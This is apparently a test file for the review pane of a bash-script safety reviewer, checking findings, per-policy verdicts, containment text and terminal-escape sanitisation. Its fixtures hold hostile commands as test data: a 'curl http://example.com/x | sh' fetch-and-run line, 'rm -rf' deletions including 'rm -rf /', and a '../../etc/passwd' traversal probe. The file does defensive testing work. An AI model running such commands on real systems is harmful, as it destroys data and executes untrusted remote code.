"""The review pane: its list of findings, the selected one in full, the verdict's words."""

from __future__ import annotations

import dataclasses
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import pytest
from textual.app import ComposeResult
from textual.message import Message
from textual.pilot import Pilot

from opsconsole.safety.review import POLICIES, review, rules
from opsconsole.safety.review.model import Edit, Effect, Finding, Review, Severity
from opsconsole.settings import Settings
from opsconsole.tui.screens.editor.explain import ExplainScreen, page_of
from opsconsole.tui.screens.editor.findings import FindingsList, ordered, same_again
from opsconsole.tui.screens.editor.live_review import Reviewed, State
from opsconsole.tui.screens.editor.review_pane import ReviewPane
from opsconsole.tui.screens.editor.verdicts import containment_words, in_short, ladder, laid_out, why
from opsconsole.tui.widgets import tones
from opsconsole.tui.widgets.tones import TonedApp
from tests.tui.waiting import shown

SCRIPT = "#!/bin/bash\nDIR=$1\ncd $DIR\nrm -rf $DIR/*.log\ncurl http://example.com/x | sh\n"
_SHEETS = Path(tones.__file__).parent


class Pane(TonedApp):
    """The pane alone, and what it tells."""

    CSS_PATH = [  # noqa: RUF012 - as Textual has it
        _SHEETS / "tones.tcss",
        _SHEETS / "dialog.tcss",
        _SHEETS.parent / "screens/editor/review.tcss",
    ]

    def __init__(self) -> None:
        super().__init__()
        self.told: list[Message] = []

    def compose(self) -> ComposeResult:
        yield ReviewPane(id="review")

    def on_findings_list_chosen(self, message: FindingsList.Chosen) -> None:
        self.told.append(message)

    def on_findings_list_fix_wanted(self, message: FindingsList.FixWanted) -> None:
        self.told.append(message)

    def on_findings_list_explain_wanted(self, message: FindingsList.ExplainWanted) -> None:
        self.told.append(message)
        self.push_screen(ExplainScreen(message.finding))


def state(text: str = SCRIPT, policy: str = "standard", **fields: Any) -> State:
    judged = review(text, "bash", policy)
    ladder = {name: review(text, "bash", name).verdict for name in POLICIES}
    return State(**{"kind": "ready", "version": 1, "reviewed": Reviewed(1, text, judged, ladder, True)} | fields)


@asynccontextmanager
async def opened(size: tuple[int, int] = (70, 40)) -> AsyncIterator[tuple[Pilot[None], ReviewPane]]:
    app = Pane()
    async with app.run_test(size=size) as pilot:
        pane = app.query_one(ReviewPane)
        yield pilot, pane


def told(pilot: Pilot[None]) -> list[Message]:
    assert isinstance(pilot.app, Pane)
    return pilot.app.told


async def test_it_shows_the_verdict_the_findings_and_what_it_does_and_a_key_acts_on_the_selected_one() -> None:
    async with opened() as (pilot, pane):
        assert "Nothing to review yet" in shown(pilot)
        pane.show(state())
        pane.show_containment("not contained: it runs as you")
        await pilot.pause()
        picture = shown(pilot)
        assert "? standard: needs a confirmation" in picture
        assert "line 4: where $DIR is empty, /*.log is deleted; you are asked before it runs" in " ".join(
            picture.split()
        )
        assert "✗ safe  ✔ restricted  ? standard  ? elevated" in picture
        assert "not contained: it runs as you" in picture
        assert "deletes" in picture and "contacts http://example.com/x" in picture
        pane.findings.focus()
        first = pane.selected
        assert first is not None and first.line == 2
        await pilot.press("down", "j")
        third = pane.findings.findings[2]
        assert pane.selected is third
        assert [(one.finding.line, one.stays) for one in told(pilot)][-1] == (third.line, True)  # type: ignore[attr-defined]
        await pilot.press("enter")
        assert told(pilot)[-1] == FindingsList.Chosen(third, stays=False)
        await pilot.press("F")
        assert told(pilot)[-1] == FindingsList.FixWanted(third)
        await pilot.press("O")
        assert pane.findings.findings[0].severity is Severity.ERROR and pane.selected == third
        await pilot.press("E")
        await pilot.pause()
        assert isinstance(pilot.app.screen, ExplainScreen)
        assert third.rule in shown(pilot)
        await pilot.press("j", "k", "escape")
        assert not isinstance(pilot.app.screen, ExplainScreen)


async def test_an_error_of_shellcheck_says_that_no_verdict_rests_on_it() -> None:
    async with opened() as (pilot, pane):
        plain = state("echo hello\n")
        assert plain.reviewed is not None
        remark = Finding("SC2148", Severity.ERROR, "said by it", 1, 1, 1, 2, 0, 1)
        judged = dataclasses.replace(plain.reviewed.review, findings=(remark,))
        pane.show(dataclasses.replace(plain, reviewed=dataclasses.replace(plain.reviewed, review=judged)))
        await pilot.pause()
        picture = shown(pilot)
        assert "✔ standard: allowed" in picture
        assert "ShellCheck's errors are advice: no verdict rests on them" in picture
        assert "SC2148  ShellCheck's: not in the verdict" in picture
        pane.show(state())
        await pilot.pause()
        assert "ShellCheck" not in shown(pilot)


async def test_the_cursor_stays_on_its_finding_when_others_come() -> None:
    async with opened() as (pilot, pane):
        pane.show(state())
        pane.findings.focus()
        await pilot.press("G")
        before = pane.selected
        assert before is not None
        pane.show(state(SCRIPT.replace("DIR=$1\n", "DIR=$1\ncd $OTHER\n\n")))
        assert pane.selected is not None
        assert (pane.selected.rule, pane.selected.line) == (before.rule, before.line + 2)
        pane.show(state("echo hello\n"))
        await pilot.pause()
        assert pane.selected is None
        assert shown(pilot).count("findings") == 1 and "no findings" in shown(pilot) and "allowed" in shown(pilot)
        await pilot.press("enter", "F", "E")  # nothing to act on


async def test_a_key_that_fixes_is_named_only_where_something_can_be_fixed() -> None:
    async with opened() as (pilot, pane):
        pane.show(state())
        await pilot.pause()
        assert "F fix" in shown(pilot)
        review = state().reviewed
        assert review is not None
        left = [dataclasses.replace(one, fix=None) for one in review.review.findings]
        pane.findings.show(left, "no findings")
        await pilot.pause()
        assert "F fix" not in shown(pilot) and "enter go there" in shown(pilot)


async def test_reviewing_failing_and_narrow() -> None:
    async with opened((80, 30)) as (pilot, pane):
        pane.show(state(kind="reviewing", version=2))
        await pilot.pause()
        assert "reviewing …" in shown(pilot) and "needs a confirmation" in shown(pilot)
        pane.show(State("failed", 3, problem="The review could not be made: it was killed"))
        await pilot.pause()
        assert "it was killed" in shown(pilot) and "no review" in shown(pilot)
        pane.narrow = True
        pane.show(state(policy="safe"))
        await pilot.pause()
        lines = [line for line in shown(pilot).splitlines() if line.strip()]
        assert len(lines) == 3 and pane.size.height == 3
        assert "safe: refused" in lines[0] and "? elevated" in lines[0]
        assert "4:" in lines[1] and "deletes" in lines[2]


HOSTILE = "\x1b]0;x\x07\x1b[2J\x9b\u202e\x00\x7f[bold red]" + "x" * 10_000


async def test_hostile_text_is_harmless_everywhere() -> None:
    finding = Finding(HOSTILE, Severity.ERROR, HOSTILE, 1, 1, 1, 2, 0, 1, (Edit(0, 1, HOSTILE),))
    judged = Review(
        "refuse",
        "standard",
        HOSTILE,
        "",
        HOSTILE,
        (finding,),
        (Effect("write", HOSTILE, "x", 1, 1),),
        False,
        (HOSTILE,),
    )
    async with opened() as (pilot, pane):
        for narrow in (False, True):
            pane.narrow = narrow
            pane.show(State("ready", 1, Reviewed(1, HOSTILE, judged, {}, True)))
            pane.findings.focus()
            await pilot.pause()
            assert all(line.isprintable() for line in shown(pilot).splitlines())
        await pilot.app.push_screen(ExplainScreen(finding))
        await pilot.pause()
        assert all(line.isprintable() for line in shown(pilot).splitlines())


def test_order_and_identity() -> None:
    mild, grave = (
        Finding("a", Severity.INFO, "m", 1, 1, 1, 2),
        Finding("b", Severity.CATASTROPHIC, "n", 9, 1, 9, 2),
    )
    assert ordered([grave, mild], by_severity=False) == [mild, grave]
    assert ordered([mild, grave], by_severity=True) == [grave, mild]
    assert same_again(Finding("a", Severity.INFO, "m", 5, 1, 5, 2), [grave, mild]) == 1
    assert same_again(Finding("z", Severity.INFO, "m", 5, 1, 5, 2), [grave, mild]) is None


@pytest.mark.parametrize("rule", rules.all_ids())
def test_every_rule_has_a_page_that_can_be_shown(rule: str) -> None:
    page = page_of(rule)
    assert "```" not in page and "Severity:" not in page and len(page) > 40


def test_other_pages() -> None:
    assert "shellcheck.net/wiki/SC2086" in page_of("SC2086")
    assert "no page" in page_of("../../etc/passwd")


@pytest.mark.parametrize("policy", POLICIES)
def test_why_is_one_sentence_without_options_of_the_command_line(policy: str) -> None:
    for text in ("rm -rf /\n", 'rm -rf "$x"/\n', "if then\n", "echo\n"):
        judged = review(text, "bash", policy)
        assert "--" not in why(judged)
        assert bool(why(judged)) == (judged.verdict != "allow")


def test_a_reason_that_is_no_finding_stays() -> None:
    assert in_short("policy safe cannot be contained here") == "policy safe cannot be contained here"


def test_containment_is_said_for_every_policy(tmp_path: Path) -> None:
    words = {policy: containment_words(policy, Settings())[0] for policy in POLICIES}
    assert "contained" in words["safe"] and words["standard"].startswith("not contained")
    assert words["elevated"] == "not contained: it runs as root"


@pytest.mark.parametrize(("width", "lines"), [(45, 1), (44, 2), (30, 2), (12, 4)])
def test_the_ladder_of_policies_is_whole_at_every_width(width: int, lines: int) -> None:
    verdicts = {"safe": "refuse", "restricted": "allow", "standard": "allow", "elevated": "confirm"}
    said = ["".join(cell.text for cell in line).rstrip() for line in laid_out(ladder(verdicts, "standard"), width)]
    assert len(said) == lines and (max(map(len, said)) <= width or lines == 4)
    assert "  ".join(line.strip() for line in said).split() == "✗ safe ✔ restricted ✔ standard ? elevated".split()
